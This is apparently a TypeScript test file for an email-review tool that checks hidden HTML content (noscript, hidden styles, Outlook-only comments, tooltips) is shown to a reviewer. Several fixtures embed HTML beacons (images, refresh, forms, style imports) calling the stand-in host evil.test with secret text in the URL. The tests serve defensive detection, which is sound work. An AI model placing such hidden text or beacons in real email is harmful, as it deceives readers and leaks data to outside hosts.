import t from 'tap';
import { reviewHtml } from '../../../../src/mail/html/review-html.ts';
import { differingHtmlText } from '../../../../src/mail/text/differing-html.ts';

const TELLING: Record<string, string> = {
  noscript: '<noscript>SECRET words</noscript>',
  textarea: '<textarea>SECRET words</textarea>',
  'an option': '<select><option>SECRET words</select>',
  'an option’s label': '<select><option label="SECRET words"></select>',
  'a value': '<input value="SECRET words">',
  'a placeholder': '<input placeholder="SECRET words">',
  'what stands in for an object': '<object>SECRET words</object>',
  'what stands in for a frame': '<iframe>SECRET words</iframe>',
  'the page in a frame': '<iframe srcdoc="<p>SECRET words</p>"></iframe>',
  'a drawing': '<svg><text y="9">SECRET words</text></svg>',
  'a title': '<title>SECRET words</title>',
  'a tooltip': '<p title="SECRET words">Benign</p>',
  'what Outlook alone reads': '<!--[if mso]><p>SECRET words</p><![endif]-->',
  'what a style sheet writes': '<style>p::after { content: "SECRET words" }</style>',
  'hidden text': '<p style="display:none">SECRET words</p>',
  'a link around an image': '<a href="https://evil.test/SECRETwords"><img src="cid:1"></a>',
  'an area': '<map><area href="https://evil.test/SECRETwords"></map>',
  'an image': '<img src="https://evil.test/SECRETwords">',
  'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.test/SECRETwords">',
  'a style sheet of another host': '<style>@import "https://evil.test/SECRETwords";</style>',
  'a form': '<form action="https://evil.test/SECRETwords"></form>',
  'a base': '<base href="https://evil.test/SECRETwords">',
  'a background': '<p style="background:url(https://evil.test/SECRETwords)">Benign</p>',
};

t.test('what any program may show is told to a reviewer', (t) => {
  for (const [name, html] of Object.entries(TELLING)) {
    const told = differingHtmlText('Benign', reviewHtml(`<p>Benign</p>${html}`));
    t.match(told, /SECRET ?words/, name);
  }
  t.end();
});

t.test('what says nothing more is no difference', (t) => {
  const html =
    '<html><head><style>p { color: red }</style></head><body><p>Benign</p><img src="cid:logo" alt=""></body>';
  t.equal(differingHtmlText('Benign', reviewHtml(html)), null);
  t.equal(differingHtmlText('Benign', null), null);
  t.end();
});

t.test('a part that is too long to be shown is not whole', (t) => {
  const padded = (padding: string, times: number) => `<p>Benign</p>${padding.repeat(times)}EVILTXT`;
  t.equal(reviewHtml(padded('<div><b><i><table><tr><td>\n', 60_000)).isWhole, false);
  t.equal(reviewHtml(padded('<p>&nbsp;</p>\n', 450_000)).isWhole, false);
  t.equal(reviewHtml(padded(`<p ${'x'.repeat(900)}>\n`, 3_000)).isWhole, false);
  t.equal(reviewHtml(padded('<noscript>word</noscript>', 10)).isWhole, true);
  const many = Array.from({ length: 20_000 }, (_, n) => `<noscript>word ${n}</noscript>`).join('');
  t.equal(reviewHtml(many).isWhole, false, 'nor is what says too much beside the reading');
  t.end();
});
